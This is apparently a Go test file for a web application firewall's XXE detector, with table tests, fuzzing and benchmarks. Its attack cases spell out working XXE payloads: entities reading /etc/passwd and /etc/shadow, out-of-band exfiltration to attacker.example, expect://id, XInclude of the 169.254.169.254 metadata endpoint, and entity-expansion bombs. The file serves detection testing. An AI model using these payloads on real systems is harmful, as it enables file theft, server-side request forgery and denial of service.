package xxe

import (
	"strings"
	"testing"

	"github.com/portcullis-waf/portcullis/waf/detect"
	tt "github.com/portcullis-waf/portcullis/waf/detect/internal/tabletest"
)

const (
	body = detect.WhereBody
	xml  = detect.WhereXML
	form = detect.WhereForm
	q    = detect.WhereQuery
	js   = detect.WhereJSON
)

// utf16 encodes ASCII s as UTF-16LE with a byte-order mark.
func utf16(s string) string {
	var b strings.Builder
	b.WriteString("\xff\xfe")
	for i := 0; i < len(s); i++ {
		b.WriteByte(s[i])
		b.WriteByte(0)
	}
	return b.String()
}

var lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<lolz>&lol5;</lolz>`

var quadratic = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "` + strings.Repeat("A", 20000) + `">]><r>` + strings.Repeat("&a;", 100) + `</r>`

var cases = []tt.Case{
	// External general and parameter entities.
	{Value: `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, Where: body, Want: tt.Attack},
	{Value: `<!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/x">]><r>&x;</r>`, Where: body, Want: tt.Attack},
	{Value: `<!DOCTYPE r [<!ENTITY x PUBLIC "-//A//B//EN" "http://attacker.example/x.dtd">]><r>&x;</r>`, Where: body, Want: tt.Attack},
	{Value: `<!DOCTYPE r [ <!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p; ]><r/>`, Where: body, Want: tt.Attack},
	{Value: `<!DOCTYPE r [<!ENTITY % file SYSTEM "php://filter/convert.base64-encode/resource=/etc/hostname"><!ENTITY % dtd SYSTEM "http://attacker.example/combine.dtd">%dtd;]><r/>`, Where: body, Want: tt.Attack},
	{Value: `<!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>`, Where: body, Want: tt.Attack},
	{Value: `<!DOCTYPE r [<!ENTITY x SYSTEM "../../../../etc/shadow">]><r>&x;</r>`, Where: body, Want: tt.Attack},
	{Value: "<!DOCTYPE r [\n\t<!ENTITY\n\txxe\n\tSYSTEM\n\t'file:///c:/windows/win.ini'\n>\n]>\n<r>&xxe;</r>", Where: body, Want: tt.Attack},
	{Value: `<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><soap:Body>&e;</soap:Body></soap:Envelope>`, Where: body, Want: tt.Attack},
	{Value: `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`, Where: body, Want: tt.Attack},
	{Value: `<!ENTITY xxe SYSTEM "file:///etc/passwd">`, Where: form, Want: tt.Attack},
	{Value: `<user><name>a</name></user><!ENTITY x SYSTEM "http://a.example/">`, Where: js, Want: tt.Attack},
	{Value: utf16(`<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`), Where: body, Want: tt.Attack},

	// Out-of-band: parameter entities that build declarations.
	{Value: `<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://attacker.example/?x=%file;'>">%eval;%exfil;]><r/>`, Where: body, Want: tt.Attack},
	{Value: `<!DOCTYPE r [<!ENTITY % a "<!ENTITY &#37; b SYSTEM 'http://attacker.example/'>"> %a; %b;]><r/>`, Where: body, Want: tt.Attack},
	{Value: `<!DOCTYPE r [<!ENTITY % decl "<!ENTITY x SYSTEM 'file:///etc/passwd'>"> %decl; ]><r>&x;</r>`, Where: body, Want: tt.Attack},
	{Value: `<!DOCTYPE r [<!ENTITY % local "<!ENTITY inner 'x'>"> %local; ]><r>&inner;</r>`, Where: body, Want: tt.Attack},

	// External DTDs.
	{Value: `<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r>&send;</r>`, Where: body, Want: tt.Attack},
	{Value: `<!DOCTYPE r PUBLIC "-//X//Y//EN" "https://attacker.example/x.dtd"><r/>`, Where: body, Want: tt.Attack},
	{Value: `<!DOCTYPE r SYSTEM "file:///usr/share/xml/x.dtd"><r/>`, Where: body, Want: tt.Attack},
	{Value: `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://attacker.example/xhtml1-strict.dtd"><html/>`, Where: body, Want: tt.Attack},

	// XInclude.
	{Value: `<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>`, Where: body, Want: tt.Attack},
	{Value: `<root xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="http://169.254.169.254/latest/meta-data/" parse="text"/></root>`, Where: body, Want: tt.Attack},
	{Value: `<xi:include href="/etc/passwd" parse="text"/>`, Where: xml, Want: tt.Attack},

	// Expansion bombs.
	{Value: lol, Where: body, Want: tt.Attack},
	{Value: quadratic, Where: body, Want: tt.Attack},

	{Value: `<!DOCTYPE z [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><z>&d;</z>`, Where: q, Want: tt.Attack},

	// Near-misses: ordinary XML.
	{Value: `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>`, Where: body, Want: tt.None},
	{Value: `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>News</title><item><title>A &amp; B</title></item></channel></rss>`, Where: body, Want: tt.None},
	{Value: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></svg>`, Where: body, Want: tt.None},
	{Value: `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><body><p>Hi</p></body></html>`, Where: body, Want: tt.None},
	{Value: `<?xml version="1.0" encoding="utf-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
	<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">
	<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">
	<!ENTITY ns_graphs "http://ns.adobe.com/Graphs/1.0/">
]><svg version="1.1" xmlns:x="&ns_extend;" xmlns:i="&ns_ai;" xmlns:graph="&ns_graphs;" xmlns="http://www.w3.org/2000/svg"><g/></svg>`, Where: body, Want: tt.None},
	{Value: `<!DOCTYPE html><html><head><title>x</title></head><body></body></html>`, Where: body, Want: tt.None},
	{Value: `<!DOCTYPE note [<!ELEMENT note (to,from,body)><!ELEMENT to (#PCDATA)><!ATTLIST note id CDATA #IMPLIED>]><note><to>A</to></note>`, Where: body, Want: tt.None},
	{Value: `<!DOCTYPE doc [<!ENTITY company "Example Corp"><!ENTITY copy "&#169;">]><doc>&copy; &company;</doc>`, Where: body, Want: tt.None},
	{Value: `<!-- <!ENTITY x SYSTEM "file:///etc/passwd"> --><r/>`, Where: body, Want: tt.None},
	{Value: `<r><![CDATA[<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>]]></r>`, Where: body, Want: tt.None},
	{Value: `<!DOCTYPE note SYSTEM "note.dtd"><note/>`, Where: body, Want: tt.Weak},
	{Value: `<!DOCTYPE math PUBLIC "-//W3C//DTD MathML 2.0//EN" "http://www.w3.org/Math/DTD/mathml2/mathml2.dtd"><math/>`, Where: body, Want: tt.None},
	{Value: `<include file="a.xml"/><x:includes/>`, Where: body, Want: tt.None},
	{Value: "a < b and c > d, <!-- not xml", Where: form, Want: tt.None},
	{Value: `Use <!DOCTYPE html> at the top of every page.`, Where: form, Want: tt.None},
	{Value: `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict><key>Name</key><string>x</string></dict></plist>`, Where: body, Want: tt.Benign},
	{Value: `<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd"><book/>`, Where: body, Want: tt.Benign},
	{Value: `<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Example</title><entry><title>A &lt; B</title></entry></feed>`, Where: body, Want: tt.None},
	{Value: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"><sodipodi:namedview/></svg>`, Where: body, Want: tt.None},
	{Value: `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd"><html/>`, Where: body, Want: tt.None},
	{Value: "In XML, <!ENTITY> declarations live in the DTD", Where: form, Want: tt.None},
	{Value: "plain text", Where: q, Want: tt.None},
}

func TestDetect(t *testing.T) { tt.Run(t, New(), cases) }

const maxStepsPerByte = 40

func steps(in detect.Input) (detect.Finding, bool, int) {
	var s scan
	f, ok := s.run(in)
	return f, ok, s.steps
}

func TestStepsLinear(t *testing.T) {
	decls := strings.Repeat(`<!ENTITY a`+"x"+` "&a;&a;">`, 64)
	units := []string{"<!DOCTYPE r [", "<!ENTITY % a '%a;'>", "%a;", "<x:include ", "<!--", "<![CDATA[", "&a;", "<!DOCTYPE r SYSTEM '", "<"}
	for _, unit := range units {
		v := "<!DOCTYPE r [" + decls + strings.Repeat(unit, 10000)
		_, _, n := steps(detect.Input{Value: v, Where: body})
		if bound := tt.StepBound(len(v), maxStepsPerByte, 256); n > bound {
			t.Errorf("%q x 10000: %d steps > %d", unit, n, bound)
		}
	}
}

func FuzzDetect(f *testing.F) {
	tt.Seeds(f, cases)
	d := New()
	f.Fuzz(func(t *testing.T, v string, where uint8) {
		in := detect.Input{Value: v, Where: detect.Where(where % 11)}
		fd, ok, n := steps(in)
		if err := tt.Invariants(d, in, fd, ok); err != nil {
			t.Fatal(err)
		}
		if bound := tt.StepBound(len(v), maxStepsPerByte, 256); n > bound {
			t.Fatalf("%d steps for %d bytes > %d", n, len(v), bound)
		}
	})
}

var benignInputs = []detect.Input{
	{Value: `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>`, Where: body},
	{Value: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></svg>`, Where: body},
	{Value: "Hello, I would like to change my delivery address to 12 Main St.", Where: form},
	{Value: `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>`, Where: body},
	{Value: "42", Where: q},
}

var attackInputs = []detect.Input{
	{Value: `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, Where: body},
	{Value: `<!DOCTYPE r [ <!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p; ]><r/>`, Where: body},
	{Value: `<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>`, Where: body},
	{Value: lol, Where: body},
}

func BenchmarkDetect(b *testing.B) {
	b.Run("benign", func(b *testing.B) { tt.Bench(b, New(), benignInputs) })
	b.Run("attack", func(b *testing.B) { tt.Bench(b, New(), attackInputs) })
}
